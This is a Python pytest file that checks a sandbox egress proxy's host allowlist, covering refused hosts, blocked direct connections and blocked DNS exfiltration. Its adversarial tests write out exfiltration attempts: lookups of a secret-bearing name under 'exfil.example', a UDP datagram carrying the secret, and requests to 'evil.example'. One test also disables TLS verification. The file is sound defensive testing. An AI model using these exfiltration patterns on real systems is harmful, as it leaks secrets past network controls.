"""A sandbox whose task allows network to listed hosts (Harbor's `network_mode = "allowlist"`)
reaches them only through rollyard's egress proxy, on either backend (docker tests marked): a host off the list is refused, a direct
connection (to the allowed host itself, the host's loopback, any address) fails, and a name
built from data is never resolved (no DNS exfiltration). Entries are `host:port`; a bare host
means ports 80 and 443, never an address of this host, and the run's own Prefect and Dask ports
are refused even when named. The "allowed host" is an HTTP server this test runs on the host's
loopback; pypi.org is the real one where the machine reaches it."""

from __future__ import annotations

import http.server
import socket
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandboxes import Limits, Sandbox, open_sandbox
from sandboxes.egress import PROXY_PORT, host_allowed
from tasks_lib import TaskRefusedError, load_task

pytestmark = [pytest.mark.adversarial, pytest.mark.timeout(120)]

BODY = b"the allowed host's answer"


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", str(len(BODY)))
        self.end_headers()
        self.wfile.write(BODY)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def allowed_server() -> Iterator[http.server.ThreadingHTTPServer]:
    """An HTTP server on the host's loopback, reached from a sandbox as `localhost`."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.paths = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(params=["bwrap", pytest.param("docker", marks=pytest.mark.docker)])
def allowlisted(
    request: pytest.FixtureRequest,
    sandbox_root: Path,
    workspace: Path,
    allowed_server: http.server.ThreadingHTTPServer,
) -> Iterator[Sandbox]:
    """A sandbox allowed `localhost:PORT` (the allowed server's) and pypi.org, on each backend
    (docker where an engine answers)."""
    if request.param == "docker":
        from sandboxes.docker_images import base_image, image_id, shared_client
        from sandboxes.errors import SandboxUnavailableError

        try:
            image_id(shared_client(), base_image())
        except SandboxUnavailableError as error:
            pytest.skip(str(error))
    port = allowed_server.server_address[1]
    limits = Limits(allowed_hosts=(f"localhost:{port}", "pypi.org"))
    with open_sandbox(workspace, backend=request.param, limits=limits) as sb:
        yield sb


def _python(sandbox: Sandbox, source: str) -> tuple[int, str]:
    result = sandbox.execute(["python3", "-c", source], timeout_s=60)
    return result.exit_code, (result.stdout + result.stderr).strip()


def _fetch(url: str) -> str:
    return f"""
import urllib.request, urllib.error
try:
    print(urllib.request.urlopen({url!r}, timeout=20).read().decode())
except urllib.error.HTTPError as error:
    print("HTTP", error.code, error.read().decode().strip())
"""


def test_allowlisted_host_is_reachable_through_the_proxy(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    code, out = _python(allowlisted, _fetch(f"http://localhost:{port}/data"))
    assert code == 0 and out == BODY.decode(), out
    assert allowed_server.paths == ["/data"]  # type: ignore[attr-defined]


def test_host_off_the_allowlist_is_refused(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    # The same server by its address, which is not on the list, and names that are not.
    for url in (f"http://127.0.0.1:{port}/x", f"http://evil.example:{port}/x",
                f"http://localhost.evil.example:{port}/x", "https://files.pythonhosted.org/"):  # fmt: skip
        code, out = _python(allowlisted, _fetch(url))
        if url.startswith("https"):
            assert code != 0 and "403" in out, out  # CONNECT refused: the tunnel never opens
        else:
            assert out.startswith("HTTP 403") and "not on the task's network allowlist" in out
    assert allowed_server.paths == []  # type: ignore[attr-defined]
    # A CONNECT by hand to a refused host gets 403 and nothing else.
    code, out = _python(
        allowlisted,
        f"""
import socket
s = socket.create_connection(("127.0.0.1", {PROXY_PORT}))
s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())
""",
    )
    assert out == "HTTP/1.1 403 Forbidden", out


def test_direct_connections_without_the_proxy_fail(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    # The host's own address on its default route: a real interface the sandbox must not reach.
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))
        host_address = probe.getsockname()[0]
    finally:
        probe.close()
    targets = [("127.0.0.1", port), (host_address, port), ("151.101.0.223", 443)]
    for address, target_port in targets:
        code, out = _python(
            allowlisted,
            f"""
import socket
try:
    socket.create_connection(({address!r}, {target_port}), timeout=5)
    print("CONNECTED")
except OSError as error:
    print("refused:", error)
""",
        )
        assert code == 0 and out.startswith("refused:"), (address, out)
    # An opener that ignores the proxy variables goes direct, and direct is no way out.
    code, out = _python(
        allowlisted,
        f"""
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
print(opener.open("http://localhost:{port}/direct", timeout=5).read())
""",
    )
    # (Refused on the sandbox's own loopback, or no address for `localhost` there at all.)
    assert code != 0 and "URLError" in out and BODY.decode() not in out, out
    assert allowed_server.paths == []  # type: ignore[attr-defined]


def test_dns_exfiltration_does_not_bypass_the_allowlist(
    allowlisted: Sandbox, sandbox_root: Path
) -> None:
    secret = "c2VjcmV0LXRva2Vu"
    # No resolver is reachable from inside: the lookup fails without a packet leaving.
    _code, out = _python(
        allowlisted,
        f"""
import socket
try:
    print(socket.getaddrinfo("{secret}.exfil.example", 443))
except OSError as error:
    print("unresolved:", error)
""",
    )
    assert out.startswith("unresolved:"), out
    # A UDP datagram to a listener on the host's loopback (where a local resolver would sit)
    # never arrives: the sandbox's loopback is its own.
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(1.0)
    try:
        port = listener.getsockname()[1]
        _python(
            allowlisted,
            f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    try:
        s.sendto(b"{secret}", ("127.0.0.1", {port}))
    except OSError:
        pass
""",
        )
        with pytest.raises(TimeoutError):
            listener.recvfrom(100)
    finally:
        listener.close()
    # Through the proxy the name is refused before it is resolved: the proxy looks up only
    # allowlisted names.
    _code, out = _python(allowlisted, _fetch(f"http://{secret}.exfil.example/"))
    assert out.startswith("HTTP 403"), out
    proxy = allowlisted._egress  # type: ignore[attr-defined]
    assert proxy is not None and all(secret not in name for name in proxy.resolved)
    assert (f"{secret}.exfil.example", 80, False) in proxy.decisions


def test_pypi_is_reachable_when_allowlisted(allowlisted: Sandbox) -> None:
    try:
        urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10).close()
    except OSError as error:
        pytest.skip(f"this machine does not reach pypi.org: {error}")
    # Unverified TLS: trusting this machine's certificate chain (an intercepting CA the host
    # trusts and a container image need not) is the image's business; this test is the route.
    code, out = _python(
        allowlisted,
        """
import json, ssl, urllib.request
answer = urllib.request.urlopen("https://pypi.org/pypi/six/json", timeout=30,
                                context=ssl._create_unverified_context())
print(json.load(answer)["info"]["name"])
""",
    )
    assert code == 0 and out == "six", out


def test_bwrap_sandbox_without_allowed_hosts_has_no_proxy(
    sandbox_root: Path, workspace: Path
) -> None:
    with open_sandbox(workspace) as sb:
        _code, out = _python(
            sb,
            f"""
import os, socket
print(sorted(k for k in os.environ if "proxy" in k.lower()), os.path.exists("/run/rollyard"))
try:
    socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=3)
except OSError as error:
    print("refused")
""",
        )
    assert out.splitlines() == ["[] False", "refused"], out


@pytest.mark.parametrize(
    ("host", "allowed"),
    [("pypi.org", True), ("PyPI.org.", True), ("evil-pypi.org", False), ("pypi.org.evil", False),
     ("files.example.com", True), ("example.com", False), ("a.b.example.com", True)],
)  # fmt: skip
def test_allowlist_matching(host: str, allowed: bool) -> None:
    assert host_allowed(host, ("pypi.org", "*.example.com")) is allowed


def _harbor_task(root: Path, environment: str, dockerfile: str = "FROM python:3.11-slim\n") -> Path:
    (root / "environment").mkdir(parents=True)
    (root / "environment" / "Dockerfile").write_text(dockerfile + "WORKDIR /app\n")
    (root / "tests").mkdir()
    (root / "tests" / "test.sh").write_text("echo 1 > /logs/verifier/reward.txt\n")
    (root / "instruction.md").write_text("Fetch the index.\n")
    (root / "task.toml").write_text(f'version = "1.0"\n\n[environment]\n{environment}\n')
    return root


def test_harbor_allowlist_task_loads_with_its_hosts_and_public_is_refused(tmp_path: Path) -> None:
    task = load_task(_harbor_task(tmp_path / "allow", 'network_mode = "allowlist"\n'
                                  'allowed_hosts = ["pypi.org", "files.pythonhosted.org"]'))  # fmt: skip
    assert task.limits.allowed_hosts == ("pypi.org", "files.pythonhosted.org")
    quiet = load_task(_harbor_task(tmp_path / "quiet", 'network_mode = "no-network"'))
    assert quiet.limits.allowed_hosts == ()
    with pytest.raises(TaskRefusedError, match="needs public network"):
        load_task(_harbor_task(tmp_path / "public", 'network_mode = "public"'))
    # In its own image (a Dockerfile the local environment does not reproduce) too.
    image = load_task(_harbor_task(tmp_path / "image", 'network_mode = "allowlist"\n'
                                   'allowed_hosts = ["pypi.org"]',
                                   "FROM debian:bookworm\nRUN apt-get update\n"))  # fmt: skip
    assert image.container is not None and image.limits.allowed_hosts == ("pypi.org",)
